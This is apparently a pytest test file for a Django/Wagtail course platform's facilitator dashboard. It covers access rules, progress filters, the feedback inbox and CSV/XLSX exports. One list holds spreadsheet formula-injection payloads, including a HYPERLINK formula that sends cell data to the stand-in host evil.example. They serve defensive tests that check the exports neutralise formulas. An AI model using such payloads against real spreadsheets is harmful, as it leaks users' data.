"""The facilitators' cohort dashboard in the Wagtail admin: access, matrix, participation, inbox, exports."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from courses import services
from courses.models import CohortGroup, Enrollment, LessonCompletion, Reflection
from tests.courses.conftest import prompt_id, translated
from tests.factories import enrol, make_cohort, make_course, make_user


def dashboard_url(cohort, query: str = "") -> str:
    return reverse("workspace_cohort_dashboard", args=[cohort.pk]) + query


@pytest.fixture
def progress_world(world):
    """Five participants: two up to date, three behind (0, 2 and 3 of the 4 released lessons)."""
    released = world.tree.lessons[0] + world.tree.lessons[1]
    group = CohortGroup.objects.create(cohort=world.cohort, name="GIA Norte")
    people = {"participante": Enrollment.objects.get(user=world.participant, cohort=world.cohort)}
    for username, group_of in [("ana", group), ("bruno", None), ("carla", None), ("dario", group)]:
        people[username] = enrol(make_user(username), world.cohort, group=group_of)
    done = {"ana": 4, "bruno": 4, "participante": 0, "carla": 2, "dario": 3}
    for username, count in done.items():
        for lesson in released[:count]:
            LessonCompletion.objects.create(enrollment=people[username], lesson=lesson)
    # Carla last did anything three weeks ago.
    long_ago = timezone.now() - dt.timedelta(days=21)
    LessonCompletion.objects.filter(enrollment=people["carla"]).update(completed_at=long_ago)
    people["group"] = group
    return people


def shown_participants(response) -> set[str]:
    import re

    return set(re.findall(r'data-participant="([^"]+)"', response.content.decode()))


# --- access -----------------------------------------------------------------------------------------------


def test_facilitator_of_the_cohort_sees_the_dashboard(client, world, admin_facilitator):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort))
    assert response.status_code == 200
    assert "wagtailadmin/base.html" in [t.name for t in response.templates]


def test_facilitator_of_another_cohort_gets_404(client, world, admin_facilitator):
    other = make_user("otra_facilitadora")
    services.enrolment_add(cohort=world.other_cohort, user=other, role=Enrollment.Role.FACILITATOR)
    client.force_login(other)
    assert client.get(dashboard_url(world.cohort)).status_code == 404
    assert client.get(dashboard_url(world.cohort, "?export=progress&format=csv")).status_code == 404
    client.force_login(admin_facilitator)
    assert client.get(dashboard_url(world.other_cohort)).status_code == 404
    assert client.get(reverse("workspace_cohort_dashboard", args=[999_999])).status_code == 404


@pytest.mark.parametrize("role", ["participant", "observer", "outsider"])
def test_members_without_admin_access_are_sent_to_the_admin_login(client, world, role):
    client.force_login(getattr(world, role))
    response = client.get(dashboard_url(world.cohort))
    assert response.status_code == 302
    assert response.url.startswith(reverse("wagtailadmin_login"))


def test_anonymous_is_sent_to_the_admin_login(client, world):
    response = client.get(dashboard_url(world.cohort))
    assert response.status_code == 302
    assert response.url.startswith(reverse("wagtailadmin_login"))


def test_staff_with_admin_access_sees_every_cohort(client, world):
    world.staff.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(world.staff)
    assert client.get(dashboard_url(world.cohort)).status_code == 200
    assert client.get(dashboard_url(world.other_cohort)).status_code == 200


def test_cohort_listing_links_to_the_dashboard(client, world, admin_facilitator):
    client.force_login(admin_facilitator)
    response = client.get(reverse("wagtailsnippets_courses_cohort:list"))
    assert response.status_code == 200
    assert dashboard_url(world.cohort) in response.content.decode()
    assert dashboard_url(world.other_cohort) not in response.content.decode()


# --- progress matrix --------------------------------------------------------------------------------------


def test_matrix_shows_every_participant_with_cells_and_percentages(
    client, world, admin_facilitator, progress_world
):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort))
    assert shown_participants(response) == {"ana", "bruno", "carla", "dario", "participante"}
    rows = {r.enrollment.user.username: r for r in response.context["rows"]}
    assert rows["ana"].cells == ["done"] * 4 + ["locked"] * 2
    assert rows["carla"].cells == ["done", "done", "todo", "todo", "locked", "locked"]
    assert rows["dario"].module_percents == [100, 50, 0]
    assert rows["dario"].percent == 50  # 3 of 6 lessons
    assert rows["participante"].last_activity_at is None
    assert response.context["released_count"] == 4
    for lesson in world.tree.all_lessons:
        assert lesson.title in response.content.decode()


def test_behind_filter_finds_the_three_behind(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?behind=1"))
    assert shown_participants(response) == {"participante", "carla", "dario"}
    assert response.context["behind_count"] == 3


def test_inactive_filter(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?inactive=7"))
    assert shown_participants(response) == {"participante", "carla"}
    response = client.get(dashboard_url(world.cohort, "?inactive=30"))
    assert shown_participants(response) == {"participante"}


def test_small_group_filter_and_bad_values_are_ignored(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    group = progress_world["group"]
    response = client.get(dashboard_url(world.cohort, f"?group={group.pk}"))
    assert shown_participants(response) == {"ana", "dario"}
    response = client.get(dashboard_url(world.cohort, f"?group={group.pk}&behind=1"))
    assert shown_participants(response) == {"dario"}
    response = client.get(dashboard_url(world.cohort, "?group=abc&inactive=-3"))
    assert response.status_code == 200
    assert len(shown_participants(response)) == 5


# --- participation ----------------------------------------------------------------------------------------


def test_participation_lists_everyone_with_zeros_and_the_note(
    client, world, admin_facilitator, progress_world
):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort))
    participation = response.context["participation"]
    assert len(participation["rows"]) == 5
    assert all(r.gatherings_attended == 0 and r.turns == 0 for r in participation["rows"])
    assert len(response.context["silent"]) == 5
    assert participation["gini"]["turns"] == 0
    assert translated("These figures are for inviting voices, not for grading.") in response.content.decode()


# --- feedback inbox ---------------------------------------------------------------------------------------


def test_inbox_lists_pending_reflections_oldest_first(client, world, admin_facilitator, reflection, peer):
    lesson = world.tree.lessons[0][1]
    newer = services.reflection_submit(user=peer, lesson=lesson, prompt_id=prompt_id(lesson), body="Otra")
    Reflection.objects.filter(pk=reflection.pk).update(updated_at=timezone.now() - dt.timedelta(days=2))
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort))
    assert [r.pk for r in response.context["inbox"]] == [reflection.pk, newer.pk]


def test_inline_feedback_answers_the_reflection(client, world, admin_facilitator, reflection):
    client.force_login(admin_facilitator)
    response = client.post(dashboard_url(world.cohort), {"reflection": reflection.pk, "body": "¡Muy bien!"})
    assert response.status_code == 302
    reflection.refresh_from_db()
    assert reflection.status == Reflection.Status.ANSWERED
    assert reflection.messages.last().body == "¡Muy bien!"
    assert client.get(dashboard_url(world.cohort)).context["inbox"] == []


def test_participant_reply_comes_back_into_the_inbox(client, world, admin_facilitator, reflection):
    services.reflection_feedback(author=admin_facilitator, reflection=reflection, body="Gracias")
    services.reflection_reply(author=world.participant, reflection=reflection, body="Una duda más")
    client.force_login(admin_facilitator)
    assert [r.pk for r in client.get(dashboard_url(world.cohort)).context["inbox"]] == [reflection.pk]


def test_empty_feedback_is_refused_with_a_message(client, world, admin_facilitator, reflection):
    client.force_login(admin_facilitator)
    response = client.post(dashboard_url(world.cohort), {"reflection": reflection.pk, "body": "   "})
    assert response.status_code == 200
    assert translated("Write something before sending.") in response.content.decode()
    reflection.refresh_from_db()
    assert reflection.status == Reflection.Status.PENDING


def test_refused_feedback_keeps_the_typed_text(client, world, admin_facilitator, reflection):
    client.force_login(admin_facilitator)
    body = "Texto largo " * 1000
    response = client.post(dashboard_url(world.cohort), {"reflection": reflection.pk, "body": body})
    assert response.status_code == 200
    assert body.strip() in response.content.decode()
    assert reflection.messages.count() == 1


def test_feedback_on_another_cohort_reflection_is_404(client, world, admin_facilitator):
    lesson = world.other_tree.lessons[0][0]
    foreign = services.reflection_submit(
        user=world.outsider, lesson=lesson, prompt_id=prompt_id(lesson), body="x"
    )
    client.force_login(admin_facilitator)
    response = client.post(dashboard_url(world.cohort), {"reflection": foreign.pk, "body": "Hola"})
    assert response.status_code == 404
    foreign.refresh_from_db()
    assert foreign.status == Reflection.Status.PENDING


# --- exports ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["progress", "attendance", "participation"])
def test_csv_exports_have_a_bom_and_a_header(client, world, admin_facilitator, progress_world, kind):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, f"?export={kind}&format=csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 1 + 5
    assert lines[0].split(",")[0] in ("Name", translated("Name"))


def test_progress_csv_has_lessons_and_accents(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?export=progress&format=csv"))
    text = response.content.decode("utf-8-sig")
    assert "Lección 1.1" in text.splitlines()[0]
    assert "Módulo 1" in text.splitlines()[0]


def test_xlsx_export_opens_with_openpyxl(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?export=progress&format=xlsx"))
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(workbook.active.iter_rows(values_only=True))
    assert len(rows) == 1 + 5
    assert "Lección 1.1" in rows[0]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Ana Test", "Bruno Test", "Carla Test", "Dario Test", "Participante Test"}
    percent_column = rows[0].index(next(h for h in rows[0] if h in ("Course %", translated("Course %"))))
    assert by_name["Dario Test"][percent_column] == 0.5  # a real percentage: 50 %


def test_xlsx_cells_are_typed_and_the_header_row_frozen(client, world, admin_facilitator, progress_world):
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?export=progress&format=xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    percent_column = header.index(next(h for h in header if h in ("Course %", translated("Course %")))) + 1
    assert sheet.freeze_panes == "A2"
    assert sheet.cell(row=2, column=percent_column).number_format == "0%"


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&B3,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd"]


@pytest.mark.parametrize("kind", ["progress", "attendance", "participation"])
def test_csv_exports_neutralise_formulas_in_names(client, world, admin_facilitator, progress_world, kind):
    for n, name in enumerate(FORMULA_NAMES):
        enrol(make_user(f"formula{n}", first_name=name, last_name=""), world.cohort)
    client.force_login(admin_facilitator)
    text = client.get(dashboard_url(world.cohort, f"?export={kind}&format=csv")).content.decode("utf-8-sig")
    cells = [line.split(",")[0] for line in text.splitlines()[1:]]
    dangerous = [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@", "\t"))]
    assert dangerous == []


def test_xlsx_exports_write_names_as_text_never_formulas(client, world, admin_facilitator, progress_world):
    enrol(make_user("formula", first_name=FORMULA_NAMES[0], last_name=""), world.cohort)
    client.force_login(admin_facilitator)
    response = client.get(dashboard_url(world.cohort, "?export=participation&format=xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    name_cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in name_cells if c.value == FORMULA_NAMES[0]] == ["s"]


def test_unknown_export_is_404(client, world, admin_facilitator):
    client.force_login(admin_facilitator)
    assert client.get(dashboard_url(world.cohort, "?export=secrets&format=csv")).status_code == 404
    assert client.get(dashboard_url(world.cohort, "?export=progress&format=pdf")).status_code == 404


# --- bounded queries --------------------------------------------------------------------------------------


def _cohort_with(modules: int, lessons: int, participants: int):
    tree = make_course("Curso medido", modules=modules, lessons=lessons, offsets=[0] * modules)
    cohort = make_cohort(tree.course, started_days_ago=5)
    facilitator = make_user()
    services.enrolment_add(cohort=cohort, user=facilitator, role=Enrollment.Role.FACILITATOR)
    group = CohortGroup.objects.create(cohort=cohort, name="GIA")
    all_lessons = tree.all_lessons
    enrollments = [enrol(make_user(), cohort, group=group if i % 2 else None) for i in range(participants)]
    LessonCompletion.objects.bulk_create(
        LessonCompletion(enrollment=e, lesson=lesson)
        for i, e in enumerate(enrollments)
        for lesson in all_lessons[: i % (len(all_lessons) + 1)]
    )
    for e in enrollments[:3]:
        lesson = all_lessons[0]
        services.reflection_submit(user=e.user, lesson=lesson, prompt_id=prompt_id(lesson), body="Reflexión")
    _certificate_data(tree, cohort, enrollments)
    return cohort, facilitator


def _certificate_data(tree, cohort, enrollments) -> None:
    """Criteria using every rule, a past gathering attended by some, certificates (one revoked)."""
    from certificates.models import Certificate
    from tests.certificates.conftest import attend, gathering, set_criteria

    set_criteria(tree.course, lessons=tree.all_lessons[:2], reflections=50, attendance=50)
    held = gathering(cohort, days_ago=2)
    for e in enrollments[::2]:
        attend(held, e.user)
    for e in enrollments[:2]:
        Certificate.objects.create(
            cohort=cohort,
            user=e.user,
            full_name=e.user.get_full_name(),
            course_title=tree.course.title,
            cohort_name=cohort.name,
            starts_on=cohort.starts_on,
            ends_on=cohort.ends_on,
        )
    Certificate.objects.filter(cohort=cohort, user=enrollments[0].user).update(
        revoked_at=timezone.now(), revocation_reason="Prueba"
    )


# Pinned a little above the small cohort's count; the 200 × 60 cohort must fit the same budget.
DASHBOARD_BUDGET = 39  # measured: 37 for both sizes (25, and 12 for the certificates section)


@pytest.mark.parametrize("size", [(2, 2, 3), (6, 10, 200)], ids=["small", "200x60"])
def test_dashboard_runs_a_bounded_number_of_queries(client, db, django_assert_max_num_queries, size):
    cohort, facilitator = _cohort_with(*size)
    client.force_login(facilitator)
    client.get(dashboard_url(cohort))  # warm up per-process caches (content types, site)
    with django_assert_max_num_queries(DASHBOARD_BUDGET):
        response = client.get(dashboard_url(cohort))
    assert response.status_code == 200
    assert len(response.context["rows"]) == size[2]
    with django_assert_max_num_queries(DASHBOARD_BUDGET):
        response = client.get(dashboard_url(cohort, "?export=progress&format=xlsx"))
    assert response.status_code == 200
